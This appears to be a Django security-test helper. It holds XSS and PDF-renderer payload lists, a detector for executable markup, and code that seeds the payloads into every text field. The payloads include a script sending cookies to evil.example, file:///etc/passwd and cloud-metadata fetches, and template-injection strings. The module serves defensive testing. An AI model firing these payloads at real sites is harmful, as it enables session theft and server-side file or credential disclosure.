"""Hostile input corpora shared by the security tests, a way to store them in every text field,
and a checker for rendered pages."""

import itertools
from html.parser import HTMLParser

from django.apps import apps
from django.db import IntegrityError, models, transaction

# Script injection in HTML, attributes, URLs, CSS, SVG, templates and encodings: 60 payloads.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ request.user.password }}",
    "{% csrf_token %}{{ settings.SECRET_KEY }}",
    "${alert(1)}",
    "`${alert(1)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=`javascript:alert(1)`>",
    '<div hx-get="/logout/" hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)">x</div>',
    '<a href="#" data-bs-toggle="collapse" data-bs-target="<img src=x onerror=alert(1)>">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template><slot onclick="alert(1)">',
    "朗通<script>alert('区域')</script>",
]

# Fetching, attaching and layout attacks on the printed PDF: 20 payloads. "{port}" is the
# canary server's port on 127.0.0.1; "{redirect}" its path that redirects to loopback.
PDF = [
    '<img src="file:///etc/passwd">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<a rel="attachment" href="file:///etc/passwd">x</a>',
    "<style>@import url(file:///etc/passwd);</style>",
    "<style>@import url(http://127.0.0.1:{port}/import.css);</style>",
    "<style>@font-face{font-family:x;src:url(http://127.0.0.1:{port}/font.ttf)}</style>",
    '<svg><image href="http://127.0.0.1:{port}/svg.png"/></svg>',
    '<svg><use href="http://127.0.0.1:{port}/use.svg#x"/></svg>',
    '<img src="http://169.254.169.254/latest/meta-data/">',
    '<img src="http://127.0.0.1:{port}{redirect}">',
    '<img src="file:///dev/urandom">',
    '<link rel="stylesheet" href="http://127.0.0.1:{port}/sheet.css">',
    '<iframe src="http://127.0.0.1:{port}/frame"></iframe>',
    '<object data="http://127.0.0.1:{port}/object"></object>',
    '<base href="http://127.0.0.1:{port}/"><img src="relative.png">',
    '<div style="background:url(http://[::1]:{port}/bg.png)">x</div>',
    '<div style="width:100000000px;height:100000000px;font-size:1000000px">huge</div>',
    '<img width="100000" height="100000" src="data:image/svg+xml,<svg/>">',
    "<div>" * 300 + "deep" + "</div>" * 300,
    "<table>" + "<tr><td>x</td></tr>" * 2000 + "</table>",
]


class _MarkupFinder(HTMLParser):
    """Collects what could run in a browser: inline scripts, event handlers, script URLs,
    frames and objects, and elements that change where things load from."""

    DANGEROUS_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in self.DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        source = attributes.get("src") or ""
        same_origin = source.startswith("/") and not source.startswith("//")
        if tag == "script" and not same_origin and attributes.get("type") != "application/json":
            self.found.append("inline <script>")
        if tag == "style":
            self.found.append("<style> block")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if name == "style":
                self.found.append(f"<{tag} style=…>")
            if name.startswith("hx-on"):
                self.found.append(f"<{tag} {name}=…>")
            if name in self.URL_ATTRIBUTES and value:
                scheme = "".join(value.split()).lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.found.append(f"<{tag} {name}={value[:30]}>")


def executable_markup(html: str) -> list[str]:
    """What in `html` a browser would run or load on the page's behalf."""
    finder = _MarkupFinder()
    finder.feed(html)
    finder.close()
    return finder.found


APPS = ("customers", "competition", "planning")
# Keys, codes and settings that are not free text a user types.
NOT_FREE_TEXT = {"code", "username", "password", "email", "language", "first_name", "last_name"}


def free_text_fields(model) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not field.primary_key
        and field.editable
        and field.name not in NOT_FREE_TEXT
        and not field.name.startswith("history_")
    ]


def payload_text(corpus: list[str], start: int, limit: int | None) -> str:
    """Payloads from the corpus, starting at `start`, as many as fit in `limit` characters."""
    pieces, length = [], 0
    for payload in itertools.islice(itertools.cycle(corpus), start, start + len(corpus)):
        if limit is not None and length + len(payload) + 1 > limit:
            break
        pieces.append(payload)
        length += len(payload) + 1
    text = " ".join(pieces)
    return text or corpus[start % len(corpus)][: limit or None]


def fill_every_text_field(corpus: list[str]) -> dict[str, int]:
    """Write payloads into every free-text field of every stored object; (field → objects)."""
    filled, offset = {}, 0
    models_ = [m for app in APPS for m in apps.get_app_config(app).get_models()]
    models_.append(apps.get_model("customers", "User"))
    for model in models_:
        if model._meta.object_name.startswith("Historical"):
            continue
        fields = free_text_fields(model)
        if model._meta.label == "customers.User":
            fields = [model._meta.get_field("full_name")]
        for obj in model._default_manager.all():
            for field in fields:
                offset += 7
                value = payload_text(corpus, offset % len(corpus), field.max_length)
                try:
                    with transaction.atomic():
                        model._default_manager.filter(pk=obj.pk).update(**{field.name: value})
                except IntegrityError:
                    continue  # a unique text: the other objects carry the payloads
                filled[f"{model._meta.label}.{field.name}"] = (
                    filled.get(f"{model._meta.label}.{field.name}", 0) + 1
                )
    return filled
